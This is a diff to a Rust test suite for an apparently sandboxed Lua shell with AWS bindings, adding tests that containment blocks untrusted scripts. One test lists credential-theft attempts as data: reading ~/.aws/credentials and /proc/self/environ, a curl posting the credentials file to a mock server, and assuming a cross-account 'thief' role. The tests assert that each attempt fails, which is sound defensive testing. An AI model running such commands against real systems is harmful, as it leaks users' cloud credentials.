@@ -5,6 +5,7 @@ use std::time::{Duration, Instant};
 use serde_json::json;
 
 use crate::support::Shell;
+use crate::support::server::{Reply, Server};
 
 fn contained() -> Shell {
     Shell::new().sandbox().arg("--contain")
@@ -35,15 +36,18 @@ fn a_refusal_names_the_function_and_the_option_and_exits_with_4() {
 #[test]
 fn reading_files_and_printing_are_allowed() {
     contained()
-        .file("a.txt", "one\ntwo\n")
-        .file("b.lua", "return 'b'")
-        .script(
-            "io.write(io.open('a.txt'):read('l'), ' ', io.open('a.txt', 'rb'):read('n') or '-', ' ')
-             for line in io.lines('a.txt') do io.write(line, ' ') end
-             io.input('a.txt') io.write(io.read('a'):len(), ' ', dofile('b.lua'), ' ')
+        .file("own/a.txt", "one\ntwo\n")
+        .file("own/b.lua", "return 'b'")
+        .file(
+            "own/script.lua",
+            "io.write(io.open('own/a.txt'):read('l'), ' ', io.open('own/a.txt', 'rb'):read('n') or '-', ' ')
+             for line in io.lines('own/a.txt') do io.write(line, ' ') end
+             io.input('own/a.txt') io.write(io.read('a'):len(), ' ', dofile('own/b.lua'), ' ')
              io.output(io.stdout):write(#report.table{{a = 1}} > 0 and 'table ' or '')
-             io.stderr:write('error text') print(#ec2.describe_instances.all() > 0, os.time() > 0, os.getenv('HOME') ~= nil)",
+             io.stderr:write('error text') print(#ec2.describe_instances.all() > 0, os.time() > 0, os.getenv('HOME') == nil)",
         )
+        .arg("own/script.lua")
+        .run()
         .code(0)
         .says("error text")
         .printed("one - one two 8 b table true\ttrue\ttrue\n");
@@ -57,6 +61,63 @@ fn without_contain_files_can_be_written_and_processes_started() {
     );
     let ran = ran.code(0).printed("true\thello\n");
     assert_eq!(ran.read("b"), "x");
+}
+
+// Scripts of strangers.
+
+#[test]
+fn a_strangers_script_sends_no_credentials() {
+    let server = Server::always(Reply::xml("<ok/>"));
+    // Six ways to send the credentials file away, as the README's reader would run them.
+    let script = r#"
+      local attempts = {
+        function() return io.open(os.getenv("HOME") .. "/.aws/credentials"):read("a") end,
+        function() return assert(loadfile("/proc/self/environ")) end,
+        function() return io.popen("curl -d @.aws/credentials URL"):read("a") end,
+        function() return aws.session { endpoint_url = "URL" }.ec2.describe_vpcs { filters = { name = key } } end,
+        function() return aws.session { profile = "process" }.sts.get_caller_identity() end,
+        function() return aws.assume("arn:aws:iam::999999999999:role/thief", { external_id = tostring(key) }).whoami() end,
+        function()
+          return sts.assume_role { role_arn = "arn:aws:iam::999999999999:role/thief", role_session_name = "x" }
+        end,
+        function() return ssm.get_parameter { name = "arn:aws:ssm:eu-west-1:999999999999:parameter/" .. tostring(key) } end,
+      }
+      local got = 0
+      for _, attempt in ipairs(attempts) do
+        local ok, result = pcall(attempt)
+        if ok then got = got + 1 print(result) end
+      end
+      print(got .. " attempts got something")"#;
+    let config = "[profile process]\ncredential_process = touch made\nregion = eu-west-1\n";
+    for options in [&["--contain", "--read-only"][..], &["--contain", "--lua-refuses", "false"]] {
+        let shell = Shell::new().credentials().env("AWS_ENDPOINT_URL", "http://127.0.0.1:9");
+        let shell = shell.file(".aws/credentials", "[default]\naws_secret_access_key = CANARY\n");
+        let ran = shell.file(".aws/config", config).args(options).script(&script.replace("URL", &server.url));
+        let ran = ran.code(0).printed("0 attempts got something\n").never_says("CANARY");
+        assert!(!ran.home.path().join("made").exists(), "a process was started");
+        server.saw_nothing();
+    }
+}
+
+#[test]
+fn a_contained_script_uses_the_roles_and_variables_that_are_allowed() {
+    let script = "local role = aws.assume('arn:aws:iam::123456789012:role/reader')
+        print(pcall(role.whoami)) print(os.getenv('SHOWN'), os.getenv('HIDDEN'), os.getenv('HOME'))";
+    let shell = || contained().env("SHOWN", "yes").env("HIDDEN", "no").args(["--allow-env", "SHOWN"]);
+    let refused = shell().script(script).code(0);
+    let refused = refused.prints("the role arn:aws:iam::123456789012:role/reader is not allowed");
+    refused.prints("allow it with --allow-role").prints("yes\tnil\tnil");
+    let ran = shell().args(["--allow-role", "arn:aws:iam::*:role/reader"]).script(script).code(0);
+    assert!(!ran.stdout.contains("is not allowed"), "{}", ran.stdout);
+    Shell::new().args(["--allow-env", "X", "-e", ""]).run().code(2).says("--contain");
+}
+
+#[test]
+fn a_call_that_names_another_account_is_refused() {
+    let chunk = "print(pcall(ssm.get_parameter, {name = 'arn:aws:ssm:eu-central-1:999999999999:parameter/x'}))
+        print(pcall(iam.get_policy, {policy_arn = 'arn:aws:iam::aws:policy/ReadOnlyAccess'}))";
+    let ran = contained().chunk(chunk).code(0);
+    ran.prints("the call names a resource of account 999999999999").prints("true");
 }
 
 // Modules.
